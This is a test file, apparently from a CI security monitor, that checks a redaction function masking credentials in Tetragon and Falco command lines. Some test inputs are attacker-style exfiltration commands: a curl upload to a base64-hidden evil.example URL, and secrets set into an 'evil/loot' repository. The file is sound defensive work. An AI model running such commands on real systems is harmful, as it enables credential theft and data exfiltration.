/**
 * Credentials as CI jobs and attackers really pass them, in Tetragon's quoted argv and in Falco's
 * space-joined argv (a header value split into several words), and what must stay readable around them.
 */
import { describe, expect, it } from 'vitest';
import { ARGV_CUT_NOTE } from '../../../src/correlate/command-line.js';
import { redact } from '../../../src/correlate/redact.js';

function check(cases: Array<[string, string]>) {
  for (const [input, output] of cases) {
    it(input, () => {
      expect(redact(input)).toBe(output);
      expect(redact(output)).toBe(output);
    });
  }
}

describe('redact: -p and -u short options', () => {
  check([
    // twine upload (process.args carries no argv[0]), oras push, docker login with the value attached.
    ['upload -u __token__ -p S3cretPyPIpass dist/*', 'upload -u __token__ -p [REDACTED] dist/*'],
    ['push -u bob -p hunter2pass ghcr.io/evil/x:1 /tmp/f', 'push -u bob -p [REDACTED] ghcr.io/evil/x:1 /tmp/f'],
    ['login -u bob -phunter2pass ghcr.io', 'login -u bob -p[REDACTED] ghcr.io'],
    ['/usr/bin/sshpass -p hunter2pass scp /tmp/x h:', '/usr/bin/sshpass -p [REDACTED] scp /tmp/x h:'],
    ['-ualice:hunter2pass -T /tmp/x https://x', '-u[REDACTED] -T /tmp/x https://x'],
    // Quoted, a password holding a space: as Tetragon quotes it, its quotes escaped in a double-quoted script or not.
    ['login -u bob -p "hunter 2 pass" ghcr.io', 'login -u bob -p [REDACTED] ghcr.io'],
    [
      '-c "docker login -u bob -p \\"hunter 2 pass\\" ghcr.io && docker push x"',
      '-c "docker login -u bob -p [REDACTED] ghcr.io && docker push x"',
    ],
    // -p that is no password stays.
    ['run -u 1000 -p 8080:80 nginx', 'run -u 1000 -p 8080:80 nginx'],
    [
      '-c "cargo publish -p acme-client --token-file /t && git push"',
      '-c "cargo publish -p acme-client --token-file /t && git push"',
    ],
    ['-c "git push origin main && mkdir -p /tmp/out"', '-c "git push origin main && mkdir -p /tmp/out"'],
    ['push -u origin main', 'push -u origin main'],
  ]);
});

describe('redact: credential headers beyond Authorization', () => {
  check([
    [
      '-H "X-JFrog-Art-Api: AKCp8budTFpbypBqQbGJPz3" -T f https://a.jfrog.io/x',
      '-H "X-JFrog-Art-Api: [REDACTED]" -T f https://a.jfrog.io/x',
    ],
    // Falco: the header is split into words.
    [
      '-H X-Vault-Token: hvs.CAESIJlWh -X GET https://vault/v1/x',
      '-H X-Vault-Token: [REDACTED] -X GET https://vault/v1/x',
    ],
    ['-H X-Gitlab-Token: s3cr3tw3bh00k https://x', '-H X-Gitlab-Token: [REDACTED] https://x'],
    [
      '-H "Circle-Token: CCIPAT_abc" https://circleci.com/api',
      '-H "Circle-Token: [REDACTED]" https://circleci.com/api',
    ],
    ['-H "DD-API-KEY: 0123abcd" https://x', '-H "DD-API-KEY: [REDACTED]" https://x'],
    ['-H Ocp-Apim-Subscription-Key: 0123abcd https://x', '-H Ocp-Apim-Subscription-Key: [REDACTED] https://x'],
    // Headers that carry no credential stay.
    [
      '-H "Content-Type: application/json" -H "Accept: application/vnd.github+json" https://x',
      '-H "Content-Type: application/json" -H "Accept: application/vnd.github+json" https://x',
    ],
    [
      'push ghcr.io/acme/secret:v1 registry.example.com/team/api-key:1.2',
      'push ghcr.io/acme/secret:v1 registry.example.com/team/api-key:1.2',
    ],
  ]);
});

describe('redact: URL userinfo keeps the host', () => {
  check([
    // The userinfo rule runs before header-like `name:value`, which would eat the host and path.
    ['push https://private-token:abc123@gitlab.com/g/p.git main', 'push https://[REDACTED]@gitlab.com/g/p.git main'],
    ['clone https://gitlab-ci-token:abc123@gitlab.com/g/p.git', 'clone https://[REDACTED]@gitlab.com/g/p.git'],
  ]);
});

describe('redact: credential flags and config values', () => {
  check([
    [
      'create secret docker-registry regcred --docker-username bob --docker-password S3cr3tPassw0rd',
      'create secret docker-registry regcred --docker-username bob --docker-password [REDACTED]',
    ],
    [
      'copy --dest-registry-token tok-9f8e7d6c5b4a dir:/tmp/x docker://ghcr.io/e/x',
      'copy --dest-registry-token [REDACTED] dir:/tmp/x docker://ghcr.io/e/x',
    ],
    ['copy /data s3:b --s3-secret-access-key abcdEFGH1234 -P', 'copy /data s3:b --s3-secret-access-key [REDACTED] -P'],
    ['cp --from-password hunter2pass a:1 b:1', 'cp --from-password [REDACTED] a:1 b:1'],
    ['storage blob upload --account-key abcDEF== -f /tmp/x', 'storage blob upload --account-key [REDACTED] -f /tmp/x'],
    // npm takes `--key value` as well as `--key=value`; `npm config set` and `aws configure set` take NAME VALUE.
    [
      'publish --//registry.npmjs.org/:_authToken abcdef0123456789',
      'publish --//registry.npmjs.org/:_authToken [REDACTED]',
    ],
    [
      'config set //registry.npmjs.org/:_authToken abcdef0123456789',
      'config set //registry.npmjs.org/:_authToken [REDACTED]',
    ],
    ['configure set aws_session_token IQoJb3JpZ2luX2VjEabc', 'configure set aws_session_token [REDACTED]'],
    ['config set npmAuthToken abcdef0123456789', 'config set npmAuthToken [REDACTED]'],
    // Flags that carry no credential stay.
    ['login -u bob --password-stdin ghcr.io', 'login -u bob --password-stdin ghcr.io'],
    [
      'upload --token-file /var/run/t --private-key /k/id.pem x',
      'upload --token-file /var/run/t --private-key /k/id.pem x',
    ],
    ['config set registry https://npm.example.com', 'config set registry https://npm.example.com'],
  ]);
});

describe('redact: signed URLs', () => {
  check([
    // Azure SAS: the signature is the credential; version, expiry and permissions stay readable.
    [
      'copy /data "https://acct.blob.core.windows.net/c?sv=2022-11-02&sp=rwl&se=2030-01-01&sig=abcDEF%2Bxyz%3D"',
      'copy /data "https://acct.blob.core.windows.net/c?sv=2022-11-02&sp=rwl&se=2030-01-01&sig=[REDACTED]"',
    ],
    [
      '-T /tmp/x https://b.s3.amazonaws.com/k?X-Amz-Date=20250101T000000Z&X-Amz-Signature=0a1b2c3d4e5f',
      '-T /tmp/x https://b.s3.amazonaws.com/k?X-Amz-Date=20250101T000000Z&X-Amz-Signature=[REDACTED]',
    ],
    [
      '-T /tmp/x https://storage.googleapis.com/b/o?X-Goog-Signature=0a1b2c3d4e5f',
      '-T /tmp/x https://storage.googleapis.com/b/o?X-Goog-Signature=[REDACTED]',
    ],
    // Azure Functions keys travel as ?code=.
    [
      '-d @/tmp/x https://f.azurewebsites.net/api/h?code=Zm9vYmFy',
      '-d @/tmp/x https://f.azurewebsites.net/api/h?code=[REDACTED]',
    ],
    [
      'https://api.github.com/repos/a/b/contents?ref=main&per_page=100',
      'https://api.github.com/repos/a/b/contents?ref=main&per_page=100',
    ],
  ]);
});

describe('redact: CI/CD token formats', () => {
  check([
    ['login hvs.CAESIJlWh0123456789abcdefghijklmnop', 'login [REDACTED]'],
    ['register -r GR1348941aBcDeFgHiJkLmNoPqRsT -u https://gitlab.com', 'register -r [REDACTED] -u https://gitlab.com'],
    ['login -u bob dckr_pat_aBcDeFgHiJkLmNoPqRsTuVwXyZ0', 'login -u bob [REDACTED]'],
    [
      'clone https://bitbucket.org/a/b ATBBaBcDeFgHiJkLmNoPqRsTuVwXyZ012345',
      'clone https://bitbucket.org/a/b [REDACTED]',
    ],
    ['upload x --token-file /t hf_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456', 'upload x --token-file /t [REDACTED]'],
    [
      '-T f https://a.jfrog.io/x AKCp8budTFpbypBqQbGJPz3pGCi6KkKKjjaBbCcDdEeFfGgHhIiJjKkLlMmNnOoPp',
      '-T f https://a.jfrog.io/x [REDACTED]',
    ],
    // An unencoded @ in the password: the whole userinfo goes, up to the host.
    ['push https://bob:p@ssw0rd@gitlab.com/g/p.git', 'push https://[REDACTED]@gitlab.com/g/p.git'],
    ['-T /tmp/x "https://h/upload?to=a@b.c"', '-T /tmp/x "https://h/upload?to=a@b.c"'],
  ]);
});

// A JSON body handed to curl: the credential's member name is quoted, so neither the header rule (a bare
// name before ':') nor NAME=value took it, and the password reached process.args whole.
describe('redact: credential members of a JSON body', () => {
  it.each([
    [`-d '{"user":"bob","password":"hunter2xyz"}'`, `-d '{"user":"bob","password":"[REDACTED]"}'`],
    [`-d {"token": "abc\\"123"} https://h.example/api`, `-d {"token": "[REDACTED]"} https://h.example/api`],
    [`--data '{"client_secret":"s3cr3t","name":"x"}'`, `--data '{"client_secret":"[REDACTED]","name":"x"}'`],
    // A Docker config's auth (base64 of user:password), a bare "pass".
    [
      `echo '{"auths":{"ghcr.io":{"auth":"Ym9iOmdocF8xNkM3ZTQyRjI5MmM2OTEyRTc3MTBjODM4MzQ3QWUxNzhCNGE="}}}'`,
      `echo '{"auths":{"ghcr.io":{"auth":"[REDACTED]"}}}'`,
    ],
    [`-d '{"user":"bob","pass":"hunter2xyz"}'`, `-d '{"user":"bob","pass":"[REDACTED]"}'`],
    // Cut at 4 KiB by Falco before the value's closing quote: redacted to the end.
    [`-d '{"user":"bob","password":"hunter2 xyz`, `-d '{"user":"bob","password":"[REDACTED]`],
    // Escaped inside a double-quoted sh -c script.
    [
      String.raw`curl -d "{\"user\":\"bob\",\"password\":\"hunter2 xyz\"}" https://h.example/api`,
      String.raw`curl -d "{\"user\":\"bob\",\"password\":\"[REDACTED]\"}" https://h.example/api`,
    ],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });

  it('keeps a member that names no credential', () => {
    const text = `-d '{"name":"release-v1","tag_name":"v1","bypass":"yes","author":"bob"}' https://api.github.com/repos/acme/app/releases`;
    expect(redact(text)).toBe(text);
  });
});

// An Azure Storage connection string: AccountKey names no word the NAME=value rule knew, and its 88-character
// key is no 40-character run, so the key reached the alert whole.
describe('redact: an Azure connection string', () => {
  it.each([
    [
      'DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==;EndpointSuffix=core.windows.net',
      'DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=[REDACTED]',
    ],
    [
      'az storage blob upload --connection-string "AccountName=acct;AccountKey=Eby8vdM02xNOcqFlqUwJPLlmEtlCDXJ1OUzFT50uSRZ6IFsuFq2UVErCz4I6tq/K1SZFPTOtr/KBHBeksoGMGw==" -f x',
      'az storage blob upload --connection-string "AccountName=acct;AccountKey=[REDACTED]" -f x',
    ],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// A sh -c script that pipes the password into a login reading stdin: --password-stdin names no value, so the
// -p/--password rules had nothing to take and the echo's word reached the parent's command line in the alert.
describe('redact: a password echoed into --password-stdin', () => {
  it.each([
    [
      'sh -c echo Hunter2Hunter2 | docker login --password-stdin -u bob ghcr.io',
      'sh -c echo [REDACTED] | docker login --password-stdin -u bob ghcr.io',
    ],
    [
      `sh -c echo -n "Hunter2 x" | docker login -u bob --password-stdin ghcr.io`,
      'sh -c echo -n [REDACTED] | docker login -u bob --password-stdin ghcr.io',
    ],
    [
      `printf '%s\\n' Hunter2 | helm registry login ghcr.io -u bob --password-stdin`,
      `printf '%s\\n' [REDACTED] | helm registry login ghcr.io -u bob --password-stdin`,
    ],
    // The variable's name, not its value, is in argv: kept.
    [
      'echo $CR_PAT | docker login ghcr.io -u bob --password-stdin',
      'echo $CR_PAT | docker login ghcr.io -u bob --password-stdin',
    ],
    // Double-quoted as scripts write it (the shell expands it): the name, or where it is read from, kept too.
    [
      'sh -c echo "$CR_PAT" | docker login ghcr.io -u bob --password-stdin',
      'sh -c echo "$CR_PAT" | docker login ghcr.io -u bob --password-stdin',
    ],
    [
      'sh -c echo "$(cat /run/secrets/reg)" | docker login -u bob --password-stdin',
      'sh -c echo "$(cat /run/secrets/reg)" | docker login -u bob --password-stdin',
    ],
    // Tetragon's form of the script (double-quoted, its own quotes escaped), and printf's format unquoted.
    [
      String.raw`/bin/sh -c "echo \"Hunter2Hunter2\" | docker login -u bob --password-stdin"`,
      '/bin/sh -c "echo [REDACTED] | docker login -u bob --password-stdin"',
    ],
    [
      String.raw`/bin/sh -c "echo \"$CR_PAT\" | docker login -u bob --password-stdin"`,
      String.raw`/bin/sh -c "echo \"$CR_PAT\" | docker login -u bob --password-stdin"`,
    ],
    [
      'sh -c printf %s Hunter2Hunter2 | docker login -u bob --password-stdin',
      'sh -c printf %s [REDACTED] | docker login -u bob --password-stdin',
    ],
    ['echo hello | tee x; docker login --password-stdin', 'echo hello | tee x; docker login --password-stdin'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// The other ways a script hands a login its secret without a flag naming it: a here-string into a login reading
// stdin, gh's --with-token (read from stdin as --password-stdin is), and a .netrc written by a heredoc or printf.
describe('redact: a secret fed to a login on stdin, or written into .netrc', () => {
  it.each([
    [
      'sh -c docker login ghcr.io -u bob --password-stdin <<< Hunter2Hunter2 && docker push ghcr.io/a/b:1',
      'sh -c docker login ghcr.io -u bob --password-stdin <<< [REDACTED] && docker push ghcr.io/a/b:1',
    ],
    [
      `sh -c helm registry login ghcr.io -u bob --password-stdin <<<'Hunter2 x'`,
      `sh -c helm registry login ghcr.io -u bob --password-stdin <<<[REDACTED]`,
    ],
    [
      '/bin/sh -c "oras login ghcr.io -u bob --password-stdin <<< "Hunter2Hunter2" && oras push ghcr.io/a/b:1 f"',
      '/bin/sh -c "oras login ghcr.io -u bob --password-stdin <<< [REDACTED] && oras push ghcr.io/a/b:1 f"',
    ],
    [
      String.raw`/bin/sh -c "oras login ghcr.io -u bob --password-stdin <<< \"Hunter2Hunter2\" && oras push ghcr.io/a/b:1 f"`,
      '/bin/sh -c "oras login ghcr.io -u bob --password-stdin <<< [REDACTED] && oras push ghcr.io/a/b:1 f"',
    ],
    [
      'sh -c echo Hunter2Hunter2 | gh auth login --with-token && gh release upload v1 d.tar',
      'sh -c echo [REDACTED] | gh auth login --with-token && gh release upload v1 d.tar',
    ],
    [
      'sh -c gh auth login --with-token <<< Hunter2Hunter2; git push origin main',
      'sh -c gh auth login --with-token <<< [REDACTED]; git push origin main',
    ],
    [
      'sh -c cat > ~/.netrc <<EOF\nmachine github.com login bob password Hunter2Hunter2\nEOF\ngit push origin main',
      'sh -c cat > ~/.netrc <<EOF\nmachine github.com login bob password [REDACTED]\nEOF\ngit push origin main',
    ],
    [
      String.raw`sh -c printf 'machine gitlab.com\nlogin oauth2\npassword Hunter2Hunter2\n' > ~/.netrc && git push`,
      String.raw`sh -c printf 'machine gitlab.com\nlogin oauth2\npassword [REDACTED]\n' > ~/.netrc && git push`,
    ],
    [
      'sh -c echo "machine h password Hunter2Hunter2 login bob" >> /root/.netrc; git push',
      'sh -c echo "machine h password [REDACTED] login bob" >> /root/.netrc; git push',
    ],
    // The entry for every other host; 'default password' in running text, no login named, stays.
    [
      String.raw`sh -c printf 'default login bob password Hunter2Hunter2\n' > ~/.netrc && git push`,
      String.raw`sh -c printf 'default login bob password [REDACTED]\n' > ~/.netrc && git push`,
    ],
    ['git commit -m "default password is rotated"', 'git commit -m "default password is rotated"'],
    // A $VAR stays, naming where the secret came from; a here-string into no login stays.
    [
      'sh -c docker login -u bob --password-stdin <<< "$CR_PAT"',
      'sh -c docker login -u bob --password-stdin <<< "$CR_PAT"',
    ],
    ['sh -c grep -q main <<< "$BRANCH" && git push', 'sh -c grep -q main <<< "$BRANCH" && git push'],
    // A here-string into a command piped into the login; not into one whose output goes elsewhere.
    [
      'sh -c cat <<< Hunter2Hunter2 | docker login -u bob --password-stdin ghcr.io',
      'sh -c cat <<< [REDACTED] | docker login -u bob --password-stdin ghcr.io',
    ],
    [
      String.raw`sh -c "tr -d '\n' <<< \"Hunter2Hunter2\" | gh auth login --with-token"`,
      String.raw`sh -c "tr -d '\n' <<< [REDACTED] | gh auth login --with-token"`,
    ],
    [
      'sh -c grep -c x <<< abcdef | wc -l; gh auth login --with-token < t',
      'sh -c grep -c x <<< abcdef | wc -l; gh auth login --with-token < t',
    ],
    [
      'sh -c grep -c x <<< abcdef || docker login --password-stdin < t',
      'sh -c grep -c x <<< abcdef || docker login --password-stdin < t',
    ],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// What Falco's 4 KiB cut left of a credential at the end of a command line, or before the evidence's note of it.
describe('redact: a credential cut at the end of the text', () => {
  it.each([
    ['push https://bob:Sx8kLp2Q', 'push https://[REDACTED]'],
    ['push https://Sx8kLp2Q', 'push https://[REDACTED]'],
    ['push https://ghp_R4nd0mT0k3n', 'push https://[REDACTED]'],
    ['-H X-Auth: eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJze', '-H X-Auth: [REDACTED]'],
    [`push https://bob:Sx8kLp2Q${ARGV_CUT_NOTE}`, `push https://[REDACTED]${ARGV_CUT_NOTE}`],
    ['-e AWS_ACCESS_KEY_ID AKIAQWERTY12', '-e AWS_ACCESS_KEY_ID [REDACTED]'],
    // What a cut leaves that is no credential stays: a host, a host and port, a word.
    ['push https://github.com', 'push https://github.com'],
    ['push https://gitlab', 'push https://gitlab'],
    ['push https://registry.local:5000', 'push https://registry.local:5000'],
    ['push https://git-srv:', 'push https://git-srv:'],
    ['--cache /root/.npm_cache', '--cache /root/.npm_cache'],
    ['push https://bob:Sx8kLp2Q@github.com/a/b.git main', 'push https://[REDACTED]@github.com/a/b.git main'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// The value a forge setting stores in the repository named (forge-settings.ts): what was stolen.
describe("redact: a forge setting's value", () => {
  it.each([
    ['secret set K --body Sx8kLp2QvR7tYw -R evil/loot', 'secret set K --body [REDACTED] -R evil/loot'],
    ['secret set K --body=Sx8kLp2QvR7tYw', 'secret set K --body=[REDACTED]'],
    // Falco's words of a multi-line body, up to the next flag.
    [
      'secret set K --body [default]\naws_secret = Sx8kLp2QvR7tYw\n -R evil/loot',
      'secret set K --body [REDACTED]\n -R evil/loot',
    ],
    ['secret set K -b "two Sx8kLp2QvR7tYw" -R evil/loot', 'secret set K -b [REDACTED] -R evil/loot'],
    [
      String.raw`sh -c "gh secret set K -b \"Sx8kLp2QvR7tYw\" -R evil/loot && git push"`,
      'sh -c "gh secret set K -b [REDACTED] -R evil/loot && git push"',
    ],
    // Attached to its short flag, as gh's flag parser takes it; gh's -v visibility attached stays.
    ['secret set K -bSx8kLp2QvR7tYw -R evil/loot', 'secret set K -b[REDACTED] -R evil/loot'],
    ['secret set K -b"Sx8k Lp2QvR7tYw" -R evil/loot', 'secret set K -b[REDACTED] -R evil/loot'],
    ['secret set K -vprivate -b x1 -R evil/loot', 'secret set K -vprivate -b [REDACTED] -R evil/loot'],
    ['variable set K Sx8kLp2QvR7tYw --masked -R evil/loot', 'variable set K [REDACTED] --masked -R evil/loot'],
    ['variable update K --value Sx8kLp2QvR7tYw -g evil', 'variable update K --value [REDACTED] -g evil'],
    // glab's flags before its value: switches, and its scope, type, description or group with theirs.
    ['variable set K --masked Sx8kLp2QvR7tYw -R evil/loot', 'variable set K --masked [REDACTED] -R evil/loot'],
    ['variable set K -m -p Sx8kLp2QvR7tYw', 'variable set K -m -p [REDACTED]'],
    ['variable set K --scope prod --masked Sx8kLp2QvR7tYw', 'variable set K --scope prod --masked [REDACTED]'],
    ['variable update K -g evil --raw Sx8kLp2QvR7tYw', 'variable update K -g evil --raw [REDACTED]'],
    [
      'sh -c echo Sx8kLp2QvR7tYw | gh secret set K -R evil/loot',
      'sh -c echo [REDACTED] | gh secret set K -R evil/loot',
    ],
    ['sh -c gh secret set K -R evil/loot <<< Sx8kLp2QvR7tYw', 'sh -c gh secret set K -R evil/loot <<< [REDACTED]'],
    // gh's -v is the visibility; a value from a file or stdin is named by no word.
    ['secret set K -v all --org evil -f /root/.env', 'secret set K -v all --org evil -f /root/.env'],
    ['secret set K -R evil/loot', 'secret set K -R evil/loot'],
    ['variable set K -f /root/.env -R evil/loot', 'variable set K -f /root/.env -R evil/loot'],
    // gh's -r names the repositories a setting is for.
    ['variable set K -o evil -r loot < /root/v', 'variable set K -o evil -r loot < /root/v'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// Base64 of user:secret is known by what it decodes to; base64 of anything else, a digest, a path stay.
const CERT_DER = Buffer.concat([
  Buffer.from([0x30, 0x82, 0x03, 0xc5, 0x30, 0x82, 0x02, 0xad]),
  Buffer.alloc(60, 7),
]).toString('base64');

describe('redact: base64 of user:secret, of text holding a credential, of a private key', () => {
  const pair = Buffer.from('bob:Sx8kLp2QvR7tYw').toString('base64');
  const unpadded = Buffer.from('x-access-token:Sx8kLp2QvR7tYw1').toString('base64').replace(/=+$/, '');
  it.each([
    [`echo ${pair} | base64 -d > /root/.git-credentials`, 'echo [REDACTED] | base64 -d > /root/.git-credentials'],
    [`--auth=${unpadded} push`, '--auth=[REDACTED] push'],
    // As `echo bob:X | base64` writes it, with the newline echo ends with; a URL's userinfo.
    [
      `echo ${Buffer.from('https://bob:Sx8kLp2QvR7tYw@github.com\n').toString('base64')} | base64 -d > /root/.git-credentials`,
      'echo [REDACTED] | base64 -d > /root/.git-credentials',
    ],
    [
      `echo ${Buffer.from('bob:Sx8kLp2QvR7tYw\n').toString('base64')} | base64 -d > /root/.git-credentials`,
      'echo [REDACTED] | base64 -d > /root/.git-credentials',
    ],
    ['-H Authorization: Basic Ym9iOlN4OGtMcDJRdlI3dFl3', '-H Authorization: [REDACTED]'],
    ['-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x', '-d {"alg":"x"} eyJhbGciOiJSUzI1NiJ9 x'],
    [
      `echo ${Buffer.from('DB_HOST=db\nDB_PASSWORD=Sx8kLp2QvR7tYw\n').toString('base64')} | base64 -d`,
      'echo [REDACTED] | base64 -d',
    ],
    // A certificate's DER (SEQUENCE, SEQUENCE) is public, and text naming no credential is none.
    [`echo ${CERT_DER} > ca.b64`, `echo ${CERT_DER} > ca.b64`],
    [
      `echo ${Buffer.from('DB_HOST=db\nDB_PORT=5432\nLOG_LEVEL=info\n').toString('base64')} | base64 -d`,
      `echo ${Buffer.from('DB_HOST=db\nDB_PORT=5432\nLOG_LEVEL=info\n').toString('base64')} | base64 -d`,
    ],
    [
      `push ${Buffer.from('just some text').toString('base64')} x`,
      `push ${Buffer.from('just some text').toString('base64')} x`,
    ],
    [
      'cp /usr/local/share/ca-certificates/AcmeRootCA2024.crt /tmp',
      'cp /usr/local/share/ca-certificates/AcmeRootCA2024.crt /tmp',
    ],
    [
      'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
      'push ghcr.io/acme/app@sha256:0123456789abcdef0123456789abcdef',
    ],
    // Where a script sends to, hidden in base64, is what a responder looks for: a URL, a host's port.
    ...['https://evil.example/up', 'http://localhost:8080', 'evil.example:443/up', 'localhost:8080\n'].map(
      (where): [string, string] => {
        const hidden = `curl -T /tmp/d.tar $(echo ${Buffer.from(where).toString('base64')} | base64 -d)`;
        return [hidden, hidden];
      },
    ),
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// The clients a script dumps a database or share with before it pushes: each names its password its own way.
describe("redact: a database or share client's password in a script", () => {
  it.each([
    [
      'sh -c mysqldump -uroot -pSx8kLp2QvR7tYw app > d.sql && git push https://github.com/e/x.git main',
      'sh -c mysqldump -uroot -p[REDACTED] app > d.sql && git push https://github.com/e/x.git main',
    ],
    ['sh -c mariadb-dump -h db -pSx8kLp2QvR7tYw app', 'sh -c mariadb-dump -h db -p[REDACTED] app'],
    [
      'sh -c mongodump -u root -p Sx8kLp2QvR7tYw --archive=/tmp/a',
      'sh -c mongodump -u root -p [REDACTED] --archive=/tmp/a',
    ],
    [
      'sh -c redis-cli -h cache -a Sx8kLp2QvR7tYw --rdb /tmp/d.rdb',
      'sh -c redis-cli -h cache -a [REDACTED] --rdb /tmp/d.rdb',
    ],
    ['sh -c sqlcmd -S db -U sa -P Sx8kLp2QvR7tYw -Q "x"', 'sh -c sqlcmd -S db -U sa -P [REDACTED] -Q "x"'],
    [
      'sh -c ldapsearch -x -D cn=admin -w Sx8kLp2QvR7tYw -b dc=acme',
      'sh -c ldapsearch -x -D cn=admin -w [REDACTED] -b dc=acme',
    ],
    ['sh -c smbclient //fs/s -U bob%Sx8kLp2QvR7tYw -c "get x"', 'sh -c smbclient //fs/s -U bob%[REDACTED] -c "get x"'],
    ['sh -c lftp -u bob,Sx8kLp2QvR7tYw sftp://h -e "put d"', 'sh -c lftp -u bob,[REDACTED] sftp://h -e "put d"'],
    // mysql's -p alone prompts (the next word is the database); a -p past the client's command is not its.
    ['sh -c mysqldump -u root -p app > d.sql', 'sh -c mysqldump -u root -p app > d.sql'],
    ['sh -c mysql -e "select 1" app; mkdir -p /tmp/out', 'sh -c mysql -e "select 1" app; mkdir -p /tmp/out'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// Each client's password flag is its own: another client's is a port, a version or a size, which a responder needs.
describe("redact: a database or directory client's password flag and its others", () => {
  it.each([
    // The password after the client's port flag: the first flag of the four was taken, the password kept.
    [
      'sh -c redis-cli -h cache -p 6379 -a Sx8kLp2QvR7tYw --rdb /tmp/d.rdb',
      'sh -c redis-cli -h cache -p 6379 -a [REDACTED] --rdb /tmp/d.rdb',
    ],
    [
      'sh -c ldapsearch -H ldap://dc -p 389 -x -D cn=admin -w Sx8kLp2QvR7tYw -b dc=acme',
      'sh -c ldapsearch -H ldap://dc -p 389 -x -D cn=admin -w [REDACTED] -b dc=acme',
    ],
    ['sh -c ldapsearch -P 3 -a never -x -w Sx8kLp2QvR7tYw', 'sh -c ldapsearch -P 3 -a never -x -w [REDACTED]'],
    [
      'sh -c bcp db.dbo.t out /tmp/t.dat -S db -a 4096 -U sa -P Sx8kLp2QvR7tYw',
      'sh -c bcp db.dbo.t out /tmp/t.dat -S db -a 4096 -U sa -P [REDACTED]',
    ],
    // Quoted, as a password with a shell's special characters is written, also in Tetragon's escaped form.
    ["sh -c mysqldump -u root -p'Sx8k$Lp2Q' app > d.sql", 'sh -c mysqldump -u root -p[REDACTED] app > d.sql'],
    ['sh -c mysqldump -u root "-pSx8kLp2QvR" app > d.sql', 'sh -c mysqldump -u root "-p[REDACTED]" app > d.sql'],
    ['-c "sqlcmd -S db -U sa -P \\"Sx8k Lp2Q\\" -Q x"', '-c "sqlcmd -S db -U sa -P [REDACTED] -Q x"'],
    ["sh -c ldapsearch -x -w 'Sx8k Lp2Q' -b dc=acme", 'sh -c ldapsearch -x -w [REDACTED] -b dc=acme'],
    // A port alone stays.
    ['sh -c redis-cli -h cache -p 6379 --rdb /tmp/d.rdb', 'sh -c redis-cli -h cache -p 6379 --rdb /tmp/d.rdb'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// A cookie is a session: curl's --cookie/-b values go, their names and a cookie jar's file stay.
describe("redact: curl's cookies", () => {
  it.each([
    ['--cookie session=Sx8kLp2QvR7tYw -T f https://x', '--cookie session=[REDACTED] -T f https://x'],
    ['-b "sid=Sx8kLp2QvR7tYw; csrf=abc123" -T f https://x', '-b "sid=[REDACTED]; csrf=[REDACTED]" -T f https://x'],
    ['--cookie=sid=Sx8kLp2QvR7tYw -T f https://x', '--cookie=[REDACTED] -T f https://x'],
    ['-b /tmp/jar.txt -T f https://x', '-b /tmp/jar.txt -T f https://x'],
    // Attached to -b, as curl's short options take a value.
    ['-bsid=Sx8kLp2QvR7tYw -T f https://x', '-bsid=[REDACTED] -T f https://x'],
    [
      String.raw`sh -c "curl -b\"sid=Sx8kLp2QvR7tYw; c=d\" -T f https://x"`,
      String.raw`sh -c "curl -b\"sid=[REDACTED]; c=[REDACTED]\" -T f https://x"`,
    ],
    ['-b/tmp/jar.txt -T f https://x', '-b/tmp/jar.txt -T f https://x'],
    // git's new branch, not a cookie: a branch's path (no cookie's name holds '/'), or -b right after checkout.
    ['git checkout -b feat/x=y && git push', 'git checkout -b feat/x=y && git push'],
    ['git checkout -q -b feat/x=y', 'git checkout -q -b feat/x=y'],
    ['git checkout -b x=y', 'git checkout -b x=y'],
    ['git worktree add -b x=y ../wt', 'git worktree add -b x=y ../wt'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

describe('redact: a bearer flag keeps its name', () => {
  it.each([
    ['--oauth2-bearer Sx8kLp2QvR7tYw -T f https://x', '--oauth2-bearer [REDACTED] -T f https://x'],
    ['-H "X-Note: bearer Sx8kLp2QvR7tYw"', '-H "X-Note: bearer [REDACTED]"'],
  ])('%s', (input, output) => {
    expect(redact(input)).toBe(output);
    expect(redact(output)).toBe(output);
  });
});

// A credential file written by a heredoc or printf in a script: its lines' values after `: ` or ` = `.
describe("redact: a credential file's lines in a script", () => {
  it.each([
    [
      'sh -c cat > /root/.kube/config <<EOF\nusers:\n- name: ci\n  user:\n    token: Sx8kLp2QvR7tYw\nEOF\ngit push',
      'sh -c cat > /root/.kube/config <<EOF\nusers:\n- name: ci\n  user:\n    token: [REDACTED]\nEOF\ngit push',
    ],
    ['    client-key-data: LS0tLS1CRUdJTiBSU0Eg\n', '    client-key-data: [REDACTED]\n'],
    [
      'sh -c cat > ~/.aws/credentials <<EOF\n[default]\naws_access_key_id = AKIAQWERTYUIOPASDFGH\naws_secret_access_key = Sx8kLp2QvR7tYw\nEOF',
      'sh -c cat > ~/.aws/credentials <<EOF\n[default]\naws_access_key_id = [REDACTED]\naws_secret_access_key = [REDACTED]\nEOF',
    ],
    [
      String.raw`sh -c printf '[default]\naws_secret_access_key = Sx8kLp2QvR7tYw\n' > ~/.aws/credentials`,
      String.raw`sh -c printf '[default]\naws_secret_access_key = [REDACTED]\n' > ~/.aws/credentials`,
    ],
